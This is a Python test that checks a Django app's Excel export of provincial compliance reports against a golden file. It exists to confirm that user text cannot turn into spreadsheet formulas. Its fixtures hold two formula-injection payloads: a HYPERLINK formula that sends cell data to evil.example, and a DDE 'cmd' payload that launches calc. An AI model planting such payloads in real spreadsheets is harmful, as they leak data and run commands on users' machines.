"""The workbook users get, cell by cell: sheets, headings, widths, values, types, number formats,
fonts, fills and the quote that keeps users' text inert. workbook_golden.json was written by
the workbook builder before it was made fast at national scale (issue 16); the faster builder
must read back the same."""

from __future__ import annotations

import datetime as dt
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine

from reports.compliance.models import UnitTargetResult
from reports.exports.content import report_content
from reports.exports.workbook import write_workbook
from reports.submissions.models import IndicatorValue, TaskUpdate
from tests.conftest import Province
from tests.reports.compliance.dashboard_fixtures import build_dashboard
from tests.reports.exports.workbook_dump import workbook_dump
from units.services import unit_rename

pytestmark = pytest.mark.django_db

GOLDEN = Path(__file__).with_name("workbook_golden.json")
NOW = dt.datetime(2026, 12, 7, 3, 0, tzinfo=dt.UTC)


def exported_workbook(province: Province) -> bytes:
    """The dashboard's workbook with a renamed unit, a figure with a fraction, notes and task
    accounts that try to be formulas, all at a fixed moment."""
    with time_machine.travel(NOW, tick=False):
        dash = build_dashboard(province)
        unit_rename(unit=province.dic, new_name="Sở Khoa học và Công nghệ",
                    effective_on=dt.date(2025, 7, 1), legal_document="QĐ 1/QĐ-UBND", by=None)  # fmt: skip
        UnitTargetResult.objects.filter(
            unit=province.district, target=dash.targets["officers"]
        ).update(value=Decimal("2.5"))
        IndicatorValue.objects.filter(submission__unit=province.district).update(
            note='=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
        )
        IndicatorValue.objects.filter(submission__unit=province.commune).update(
            note="Số liệu ước tính"
        )
        TaskUpdate.objects.filter(submission__unit=province.district, task__number="1").update(
            difficulties="+cmd|' /C calc'!A0", proposals="-1+1"
        )
        content = report_content(directive=dash.directive, period=dash.period, area=province.root)
        out = io.BytesIO()
        write_workbook(content, out, author="Sở Thông tin và Truyền thông", exported_at=NOW)
    return out.getvalue()


def test_the_workbook_reads_back_cell_for_cell_as_before(province: Province) -> None:
    assert workbook_dump(exported_workbook(province)) == json.loads(GOLDEN.read_text())
